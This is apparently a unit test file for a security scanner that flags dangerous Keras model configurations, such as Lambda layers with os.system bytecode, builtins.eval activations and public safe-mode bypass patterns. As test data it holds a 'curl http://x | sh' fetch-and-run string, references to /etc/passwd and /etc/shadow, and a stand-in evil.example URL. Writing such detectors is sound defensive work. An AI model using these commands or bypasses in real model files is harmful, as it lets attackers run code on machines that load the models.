import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { checkKerasConfig } from '../../../server/src/core/formats/keras/configChecks';
import { OS_SYSTEM, HARMLESS, b64, dense, lambdaLayer, sequential } from '../../fixtures/keras/marshal';

const check = (cfg: unknown, rootIsLayer = true): ReturnType<typeof checkKerasConfig> => checkKerasConfig(cfg, '', 1 << 20, rootIsLayer);
const ids = (r: ReturnType<typeof checkKerasConfig>): string[] => r.issues.map((i) => `${i.rule.id}:${i.severity ?? i.rule.severity}`).sort();
const k3 = (cls: string, config: unknown, module = 'keras.layers'): Record<string, unknown> => ({ module, class_name: cls, config, registered_name: null });

describe('Keras config checks', () => {
  it('a benign Sequential model has no findings and lists its layers', () => {
    const r = check(sequential([dense('d1'), dense('d2')]));
    assert.deepEqual(ids(r), []);
    assert.deepEqual(r.layers.map((l) => `${l.className}:${l.name}@${l.pointer}`), [
      'Sequential:seq@/', 'InputLayer:in@/config/layers/0', 'Dense:d1@/config/layers/1', 'Dense:d2@/config/layers/2',
    ]);
  });

  it('grades Lambda layers by what their bytecode refers to, in every layout Keras writes', () => {
    assert.deepEqual(ids(check(sequential([lambdaLayer([b64(OS_SYSTEM), null, null])]))), ['MSL770:critical']);
    assert.deepEqual(ids(check(sequential([lambdaLayer(b64(OS_SYSTEM, '3.7'))]))), ['MSL770:critical']);
    assert.deepEqual(ids(check(sequential([lambdaLayer([b64(HARMLESS), null, null])]))), ['MSL770:high']);
    const k3lambda = k3('Lambda', { name: 'l', function: { class_name: '__lambda__', config: { code: b64(OS_SYSTEM, '3.8'), defaults: null, closure: null } } });
    const r = check(k3('Sequential', { layers: [k3lambda] }, 'keras'));
    assert.deepEqual(ids(r), ['MSL770:critical']);
    assert.equal(r.issues[0]!.pointer, '/config/layers/0/config/function');
    assert.match(r.issues[0]!.evidence, /names: __import__, system; strings: "os", "curl http:\/\/x \| sh"/);
  });

  it('finds __lambda__ objects outside Lambda layers and named-function Lambdas', () => {
    const act = { class_name: '__lambda__', config: { code: b64(OS_SYSTEM) } };
    assert.deepEqual(ids(check(sequential([dense('d', { activation: act })]))), ['MSL770:critical']);
    const named = lambdaLayer('system', { function_type: 'function', module: 'os' });
    assert.deepEqual(ids(check(sequential([named]))), ['MSL770:critical']);
    assert.deepEqual(ids(check(sequential([lambdaLayer([b64(HARMLESS), null, null], { output_shape: [null, 4] })]))), ['MSL770:high']);
  });

  it('reports modules outside Keras, critical for os/builtins', () => {
    const fn = (module: string, name: string): Record<string, unknown> => ({ module, class_name: 'function', config: name, registered_name: 'function' });
    const r = check(k3('Sequential', { layers: [k3('Dense', { name: 'd', activation: fn('builtins', 'eval') }), k3('Dense', { name: 'e', activation: fn('numpy', 'tanh') })] }, 'keras'));
    assert.deepEqual(ids(r), ['MSL772:critical', 'MSL772:high']);
    assert.deepEqual(ids(check(k3('Dense', { name: 'x', activation: fn('keras.activations', 'relu') }, 'keras.layers'))), []);
  });

  it('knows the public safe-mode bypass patterns', () => {
    const fn = (module: string, name: string): Record<string, unknown> => ({ module, class_name: 'function', config: name, registered_name: 'function' });
    const model = k3('Functional', { layers: [
      k3('Dense', { name: 'a', activation: fn('keras.config', 'enable_unsafe_deserialization') }),
      k3('Dense', { name: 'b', activation: fn('keras.utils', 'get_file') }),
      k3('TFSMLayer', { name: 'c', filepath: '/tmp/evil_savedmodel' }),
      k3('StringLookup', { name: 'd', vocabulary: '/etc/passwd' }),
      { class_name: 'TFOpLambda', config: { name: 'e', function: 'io.write_file' } },
      { class_name: 'TFOpLambda', config: { name: 'f', function: 'math.add' } },
    ] }, 'keras');
    assert.deepEqual(ids(check(model)), ['MSL773:critical', 'MSL773:critical', 'MSL773:high', 'MSL773:high', 'MSL774:high']);
  });

  it('reports custom classes in layer positions only, including wrapped and nested layers', () => {
    const wrapped = { class_name: 'TimeDistributed', config: { name: 'td', layer: { class_name: 'MyCell', config: { name: 'inner' } } } };
    const bi = { class_name: 'Bidirectional', config: { name: 'bi', layer: { class_name: 'LSTM', config: { name: 'f' } }, backward_layer: { class_name: 'EvilRNN', config: { name: 'b' } } } };
    const nested = { class_name: 'Functional', config: { name: 'sub', layers: [{ class_name: 'Custom>Thing', config: { name: 'ct' } }] } };
    const withInit = dense('d', { kernel_initializer: { class_name: 'MyInit', config: {} } });
    const r = check(sequential([wrapped, bi, nested, withInit]));
    assert.deepEqual(r.issues.map((i) => `${i.rule.id}:${i.pointer}`).sort(), [
      'MSL771:/config/layers/1/config/layer',
      'MSL771:/config/layers/2/config/backward_layer',
      'MSL771:/config/layers/3/config/layers/0',
    ]);
  });

  it('reports URLs and absolute paths in other config values at medium', () => {
    const r = check(sequential([dense('d', { note: 'https://evil.example/x', path: '/etc/shadow', name2: 'relative/ok' })]));
    assert.deepEqual(ids(r), ['MSL774:medium', 'MSL774:medium']);
  });

  it('stops at a nesting bound with a finding instead of recursing without end', () => {
    let deep: unknown = { class_name: 'Dense', config: {} };
    for (let i = 0; i < 400; i++) deep = { wrap: deep };
    assert.deepEqual(ids(check(deep, false)), ['MSL776:medium']);
  });
});
